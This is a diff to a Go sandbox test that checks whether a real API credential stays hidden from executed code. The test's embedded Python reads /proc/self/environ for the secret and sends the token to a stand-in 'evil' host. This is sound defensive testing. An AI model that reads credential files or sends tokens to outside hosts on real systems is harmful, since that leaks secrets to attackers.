@@ -282,15 +282,21 @@ func TestEgressCredentials(t *testing.T) {
 	code := fmt.Sprintf(`import os, urllib.request
 tok = os.environ.get('API_TOKEN', '')
 print('placeholder set:', tok.startswith('codexec-placeholder-'))
-leak = any('e2e-s3cret' in v for v in os.environ.values()) or b'e2e-s3cret' in open('/proc/self/environ', 'rb').read()
+needle = bytes.fromhex('%x')  # the value, written so that the code itself does not hold it
+leak = any(needle.decode() in v for v in os.environ.values()) or needle in open('/proc/self/environ', 'rb').read()
 print('secret in env:', leak)
 for url in (%q, %q):
     req = urllib.request.Request(url, headers={'Authorization': tok})
     print(urllib.request.urlopen(req, timeout=20).read().decode().strip())
-`, n.api("/hello"), n.evil("/hello"))
+`, strings.TrimPrefix(secretValue, "Bearer "), n.api("/hello"), n.evil("/hello"))
 	r, _ := s.execNet("python", code, allow(n.rule(apiHost), n.rule(evilHost)))
 	if !strings.Contains(r.Stdout, "placeholder set: True") || !strings.Contains(r.Stdout, "secret in env: False") || !strings.Contains(r.Stdout, "hello from "+evilHost) {
 		t.Fatalf("program: %q %q", r.Stdout, r.Stderr)
+	}
+	for _, e := range r.Network {
+		if e.Intercepted != (e.Host == apiHost) {
+			t.Errorf("audit entry %+v: only the host with a credential is intercepted", e)
+		}
 	}
 	if got := n.authSeen(apiHost); len(got) != 1 || got[0] != secretValue {
 		t.Errorf("api received Authorization %q, want the credential", got)
